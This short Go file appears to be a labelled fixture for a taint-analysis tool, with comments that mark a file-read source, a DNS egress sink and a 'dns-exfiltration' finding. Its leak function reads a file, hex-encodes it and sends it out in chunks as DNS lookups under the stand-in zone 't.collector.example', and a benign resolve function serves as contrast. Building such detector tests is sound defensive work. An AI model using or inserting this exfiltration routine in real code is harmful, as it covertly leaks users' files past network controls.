// --- path: names/names.go ---
// A file leaves as hexadecimal pieces in the labels of host names that are looked up.
package names

import (
	"encoding/hex"
	"fmt"
	"net"
	"os"
)

const zone = "t.collector.example"

func leak(path string) error {
	body, err := os.ReadFile(path) //~ source(FILE) f1
	if err != nil {
		return err
	}
	for number, piece := range pieces(hex.EncodeToString(body), 60) {
		ask(fmt.Sprintf("%s.%d.%s", piece, number, zone))
	}
	return nil
}

func pieces(text string, size int) []string {
	var all []string
	for len(text) > size {
		all = append(all, text[:size])
		text = text[size:]
	}
	return append(all, text)
}

func ask(name string) {
	net.LookupHost(name) //~ sink(egress.dns) f1, finding(dns-exfiltration, traced) f1
}

func resolve(hosts []string) int {
	found := 0
	for _, host := range hosts {
		addresses, err := net.LookupIP(host + "." + zone) //~ ok
		if err == nil {
			found += len(addresses)
		}
	}
	return found
}
